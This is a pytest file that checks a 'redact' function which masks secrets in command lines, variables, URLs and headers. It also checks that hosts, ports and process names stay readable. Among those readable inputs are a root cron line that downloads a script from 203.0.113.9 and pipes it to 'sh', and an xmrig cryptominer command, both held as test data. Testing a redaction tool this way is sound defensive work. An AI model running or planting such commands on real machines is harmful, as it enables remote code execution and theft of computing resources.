import build
import pytest
from hypothesis import given
from hypothesis import strategies as st

from picketline.hosts.redact import redact

SECRET = "hUnter2-x.y/z+9"  # noqa: S105  # what must not come through


@pytest.mark.parametrize(
    "text",
    [
        "tool --password={}",
        "tool --password {} --verbose",
        "tool --PASSWORD={}",
        "tool --passwd {}",
        "tool --db-password={}",
        "tool --passphrase '{}'",
        'tool --password="{}"',
        "PGPASSWORD={} psql -h db",
        "env MYSQL_PWD=x SECRET_KEY={} app",
        "SPRING_CLOUD_CONFIG_SERVER_COMPOSITE_GIT_PASSWORD={} java",
        "env AWS_SECRET_ACCESS_KEY={} app",
        "app --api-key {}",
        "app --apikey={}",
        "app --access_key={} --region x",
        "app --private-key={}",
        "app --auth-token {}",
        "GITHUB_TOKEN={} gh pr list",
        "app --client-secret={}",
        "app --credential={}",
        '{"password": "{}", "user": "ada"}',
        "{'token':'{}'}",
        "https://example.org/?user=ada&token={}&page=2",
        "curl -H 'Authorization: Bearer {}' https://example.org",
        "curl -H Authorization: Basic {} x",
        "curl -H 'X-Api-Key: {}' x",
        "psql postgres://ada:{}@db:5432/app",
        "redis-cli -u redis://:{}@cache:6379",
        "mysql -u root -p{} db",
        "mysqldump --all -p{}",
        "sshpass -p {} ssh a@b",
        "curl -u ada:{} https://example.org",
    ],
)
def test_a_secret_is_masked(text: str) -> None:
    """In the forms that command lines, variables, URLs and headers give it."""
    secret = SECRET.replace("/", "") if "://" in text else SECRET
    shown = redact(text.replace("{}", secret))
    assert secret not in shown
    assert "hUnter2" not in shown
    assert "***" in shown


@pytest.mark.parametrize("secret", ["a,b", "a;b", "a&b", "a'b", 'a"b', "***", "=", "päß"])
def test_a_secret_is_masked_to_its_end(secret: str) -> None:
    """Generated passwords hold signs of every kind; no part of one is left."""
    assert redact(f"tool --password={secret} --verbose") == "tool --password=*** --verbose"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "/usr/sbin/sshd -D",
        "sshd: ada@pts/0",
        "nginx: worker process",
        "ssh -p 2222 ada@web-1",
        "psql -p 5432 -h db",
        "mysql --port 3306 --user root",
        "mysqld --defaults-file=/etc/my.cnf",
        "curl https://example.org:8443/a?page=2",
        "xmrig -o stratum+tcp://203.0.113.9:3333 -u 48abc -k",
        "git clone ssh://git@example.org:22/repo",
        "systemd-tty-ask-password-agent --watch",
        "/usr/bin/secret-tool",
        "vault server -config=/etc/vault",
        "203.0.113.9:3333",
        "/home/ada/.ssh/authorized_keys",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 ada@laptop",
        "* * * * * root curl -fsSL http://203.0.113.9/i.sh | sh",
        r"\x1b[2J\u202e",
    ],
)
def test_what_is_no_secret_stays_readable(text: str) -> None:
    """Hosts, ports, wallets and program names are what a person decides by."""
    assert redact(text) == text


def test_the_rest_of_a_line_stays() -> None:
    """Only the value goes: who connects where is still to be seen."""
    shown = redact("psql postgres://ada:x@db:5432/app --password=y --host web-1")
    assert shown == "psql postgres://ada:***@db:5432/app --password=*** --host web-1"


@build.law
@given(st.text(max_size=80))
def test_masking_twice_is_masking_once(text: str) -> None:
    """What was masked on the way in stays as it is on every later way."""
    assert redact(redact(text)) == redact(text)


@pytest.mark.parametrize(
    "piece", ["x", "token", "password-", "mysql ", "a://b:", " "], ids=lambda piece: f"{piece!r}"
)
def test_no_text_takes_long(piece: str) -> None:
    """A host chooses its words; megabytes come to an end: a quadratic one would take hours.

    Masking happens on the loop that all hosts share: what is slow here stops the sweep.
    """
    assert redact(piece * (1_000_000 // len(piece)))
